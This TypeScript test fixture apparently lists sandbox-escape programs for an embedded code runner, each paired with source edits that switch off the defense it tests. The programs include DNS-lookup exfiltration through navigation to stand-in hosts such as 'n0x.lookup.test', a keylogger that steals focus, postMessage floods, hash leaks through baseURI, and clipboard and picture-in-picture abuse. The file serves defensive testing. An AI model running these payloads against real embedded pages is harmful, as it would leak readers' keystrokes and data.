/**
 * Programs that try to escape from their frame. Each attack runs twice: with its defense and
 * without it.
 */
import type { SourceChange } from './sourceChanges';

export interface FrameAttack {
  /** Short, unique description of the program. */
  readonly name: string;
  /** The attacker's gain. */
  readonly gain: string;
  readonly code: string;
  /** Source changes that disable the defense. */
  readonly without: readonly SourceChange[];
  /** Results without the defense and with it. */
  readonly results: { readonly without: string; readonly with: string };
}

const breakoutFile = 'packages/runner/src/host/breakout.ts';

/** Disables the page's listener, which ends the run at the first blocked navigation. */
const watch: SourceChange = {
  file: breakoutFile,
  from: "if (effectiveDirective === 'frame-src') onBreakout('navigation');",
  to: 'void effectiveDirective;',
};
/** Disables the replacement that makes `stop()` do nothing. */
const stop: SourceChange = {
  file: 'packages/runner/src/boot/stubs.ts',
  from: "  define(window, 'stop', () => {});\n",
  to: '',
};
/** Next host name that the program requests: `n0x.lookup.test`, `n1x.lookup.test`, … */
const nextName = `location.protocol, 'https://n' + turn++ + 'x.lookup.test/'`;

interface NavigationAttack extends FrameAttack {
  /** Without the defense, the number of host name lookups in three seconds exceeds this number. */
  readonly least: number;
  /** Maximum number of lookups with the defense. */
  readonly most: number;
}

/**
 * Limits for programs that wait between attempts. The number of lookups depends on the time until
 * the page detects a blocked navigation.
 */
const waiting = { least: 8, most: 2, pause: 200 } as const;
/**
 * Limits for bursts. Nothing else runs between the attempts of a burst, so the page detects the
 * first one too late to prevent the others.
 */
const burst = { least: 150, most: 100, pause: 1000 } as const;

/**
 * Each of these defenses is enough to end the run. If `stop()` does nothing, a navigation
 * continues, and the page detects it.
 */
export const navigationDefenses: readonly SourceChange[] = [watch, stop];

export const navigationAttacks: readonly NavigationAttack[] = (
  [
    ['`location.href` and `stop()`', waiting, `location.href = (${nextName}); stop();`],
    ['`location.replace()` and `stop()`', waiting, `location.replace((${nextName})); stop();`],
    [
      '`navigation.navigate()` and `stop()`',
      waiting,
      `try { navigation.navigate((${nextName})).finished.catch(() => {}); } catch {} stop();`,
    ],
    [
      'bursts of 100 times `location.href` and `stop()`',
      burst,
      `for (let i = 0; i < 100; i++) { location.href = (${nextName}); stop(); }`,
    ],
  ] as const
).map(([name, { pause, ...numbers }, code]) => ({
  name,
  gain: 'Any number of host names, each with data in it, which the browser looks up',
  code: `let turn = 0; const next = () => { ${code} }; next(); setInterval(next, ${pause});`,
  without: navigationDefenses,
  ...numbers,
  results: {
    without: `More than ${numbers.least} names in 3 s; the program goes on`,
    with: `The run ends; at most ${numbers.most} names`,
  },
}));

const withoutMessageWatch: readonly SourceChange[] = [
  { file: breakoutFile, from: "      onBreakout('message');\n", to: '' },
];

export const messageAttacks: readonly FrameAttack[] = (
  [
    [
      '`parent.postMessage()` with small messages',
      `for (let i = 0; i < 2000; i++) parent.postMessage(i, '*');`,
    ],
    [
      '`parent.postMessage()` with deep objects',
      `const deep = Array.from({ length: 1000 }, () => ({ a: [{ b: 1 }] }));
       for (let i = 0; i < 50; i++) parent.postMessage(deep, '*');`,
    ],
    [
      '`top.postMessage()` with ports',
      `for (let i = 0; i < 500; i++) top.postMessage(i, '*', [new MessageChannel().port1]);`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: 'A page that stands still: limits count only what comes over the port',
  code: `setInterval(() => { ${code} }, 5);`,
  without: withoutMessageWatch,
  results: {
    without: 'The run goes on, and so do the messages',
    with: 'The run ends at the first message',
  },
}));

const withoutBase: readonly SourceChange[] = [
  {
    file: 'packages/runner/src/host/frame.ts',
    from: "document.baseURI.replace(/#.*$/s, '')",
    to: 'document.baseURI',
  },
];

export const addressAttacks: readonly FrameAttack[] = (
  [
    ['`document.baseURI`', `document.baseURI`],
    [
      '`document.baseURI` after a base of its own was added and removed',
      `(() => { const base = document.createElement('base'); base.href = 'https://x.test/';
        document.head.append(base); base.remove(); return document.baseURI; })()`,
    ],
    ['the base of an element in no document', `document.createElement('a').baseURI`],
    [
      'the address of a link in an SVG',
      `document.createElementNS('http://www.w3.org/2000/svg', 'a').baseURI`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: 'The address with its hash, in which shared code and searched text stand',
  code: `let found; try { found = ${code}; } catch (error) { found = String(error); } console.log('address ' + found);`,
  without: withoutBase,
  results: { without: 'The address has the hash', with: 'The address ends before the hash' },
}));

const withoutKeyboardWatch: readonly SourceChange[] = [
  {
    file: 'packages/runner/src/host/keyboard.ts',
    from: 'if (document.activeElement === element) onActive();',
    to: 'if (document.activeElement === element) return;',
  },
];

/** Logs the keys that the program receives, and adds an empty field. */
const thief = `addEventListener('keydown', ({ key }) => console.log('got ' + key), true);
  const field = document.createElement('input');
  document.body.append(field);`;

export const keyboardAttacks: readonly FrameAttack[] = (
  [
    ['`focus()` of a field, every 20 ms', `setInterval(() => field.focus(), 20);`],
    ['`focus()` of a field, once', `field.focus();`],
    ['`window.focus()`, every 20 ms', `setInterval(() => focus(), 20);`],
    ['`select()` of a field', `field.select();`],
    [
      'a modal dialog with a field that has `autofocus`',
      `const dialog = document.createElement('dialog'); field.autofocus = true;
       dialog.append(field); document.body.append(dialog); dialog.showModal();`,
    ],
    [
      '`focus()` with a clock and a `key` that were replaced',
      `performance.now = () => 0; Object.defineProperty(KeyboardEvent.prototype, 'key', { get: () => 'Tab' });
       MessagePort.prototype.postMessage = new Proxy(MessagePort.prototype.postMessage, { apply: (post, port) => Reflect.apply(post, port, ['press']) });
       field.focus();`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: 'What the reader types into the page, or into the site around an embed',
  code: `${thief} ${code}`,
  without: withoutKeyboardWatch,
  results: {
    without: 'The program gets the keys; the run goes on',
    with: 'The run ends, and the field has the focus again with all that was typed',
  },
}));

const abilitiesFile = 'packages/runner/src/boot/abilities.ts';

/** Removes a line from the boot script. */
const withoutLine = (text: string): readonly SourceChange[] => [
  { file: abilitiesFile, from: text, to: '' },
];

const copies = withoutLine('  refuseClipboardCommands();\n');
const plays = withoutLine("  replace(media, 'play', reject);\n");
const streams = withoutLine(
  "  if (source !== undefined) defineProperty(media, 'srcObject', { ...source, set: refuse });\n",
);
const speaks = withoutLine("  replace(classes['SpeechSynthesis']?.prototype, 'speak', refuse);\n");
const sounds = withoutLine("  replace(window, 'AudioContext', refuse);\n");
const allows: readonly SourceChange[] = [
  {
    file: 'packages/runner/src/host/frame.ts',
    from: '  element.allow = denyFeatures();\n',
    to: '',
  },
];
const pictures = withoutLine(
  "  replace(HTMLVideoElement.prototype, 'requestPictureInPicture', reject);\n",
);

const select = `const field = document.createElement('textarea'); field.value = 'stolen';
  document.body.append(field); field.select();`;
const stream = `const canvas = document.createElement('canvas'); const drawing = canvas.getContext('2d');
  setInterval(() => drawing.fillRect(0, 0, Math.random() * 9, 9), 20);
  const video = document.createElement('video'); video.muted = true; document.body.append(video);`;

const opens: readonly SourceChange[] = [
  {
    file: 'packages/runner/src/boot/elements.ts',
    from: "  refuseMethod(Document.prototype, 'open');\n",
    to: '',
  },
];

/** Attacks that succeed if the boot script's listener doesn't prevent a press on a link. */
const linkAttacks: readonly FrameAttack[] = [
  ['a link, after `document.open()`', `document.open();`],
  [
    'a link, after `open()` of the document’s prototype',
    `Document.prototype.open.call(document, 'text/html');`,
  ],
].map(([name = '', code = '']) => ({
  name,
  gain: 'Listeners of the boot script are removed, so the reader’s press follows a link: WebKit connects to its host',
  code: `try { ${code} } catch {}
    document.documentElement?.remove();
    const html = document.appendChild(document.createElement('html'));
    const link = html.appendChild(document.createElement('body')).appendChild(document.createElement('a'));
    link.id = 'viewer'; link.href = 'https://n0x.lookup.test/'; link.append('press');
    addEventListener('click', (event) => {
      console.log('result ' + !event.defaultPrevented); event.preventDefault();
    });
    console.log('waits');`,
  without: opens,
  results: { without: 'The link would be followed', with: 'The press is refused' },
}));

/** Each attack runs on a press and logs whether it succeeded. */
export const pressAttacks: readonly FrameAttack[] = [
  ...linkAttacks,
  ...(
    [
      ['`execCommand("copy")`', copies, `${select} return document.execCommand('copy');`],
      [
        '`execCommand()` with an object',
        copies,
        `${select} return document.execCommand({ toString: () => 'cOpY' });`,
      ],
      [
        '`execCommand("cut")` of another document’s prototype',
        copies,
        `${select} return Object.getPrototypeOf(HTMLDocument.prototype).execCommand.call(document, 'cut');`,
      ],
      [
        'sound by `AudioContext`',
        sounds,
        `const context = new AudioContext(); await context.resume(); return context.state === 'running';`,
      ],
      [
        'sound by a class that extends `AudioContext`',
        sounds,
        `const context = new (class extends AudioContext {})(); await context.resume(); return context.state === 'running';`,
      ],
      [
        'speech',
        speaks,
        `speechSynthesis.speak(new SpeechSynthesisUtterance('a')); return speechSynthesis.pending || speechSynthesis.speaking;`,
      ],
      [
        'a video that shows a stream, by `srcObject`',
        streams,
        `${stream} video.srcObject = canvas.captureStream(); return video.srcObject !== null;`,
      ],
      [
        'a video that plays a stream, by `play()`',
        [...streams, ...plays],
        `${stream} video.srcObject = canvas.captureStream(); await video.play(); return !video.paused;`,
      ],
      [
        'picture-in-picture with a stream',
        [...pictures, ...streams, ...plays, ...allows],
        `${stream} video.srcObject = canvas.captureStream(); await video.play();
       await video.requestPictureInPicture(); return document.pictureInPictureElement === video;`,
      ],
      [
        'picture-in-picture, by permission',
        allows,
        `return document.featurePolicy.allowsFeature('picture-in-picture');`,
      ],
      [
        'any feature, by permission',
        allows,
        `return document.featurePolicy.allowedFeatures().length > 0;`,
      ],
    ] as const
  ).map(([name, without, code]) => ({
    name,
    gain: 'After one press in the view: another text in the clipboard, sound, or a window over all others',
    code: `addEventListener('pointerup', async () => {
    let result; try { result = await (async () => { ${code} })(); } catch (error) { result = error.name; }
    console.log('result ' + result);
  });
  console.log('waits');`,
    without,
    results: { without: 'It succeeds', with: 'It’s refused' },
  })),
];
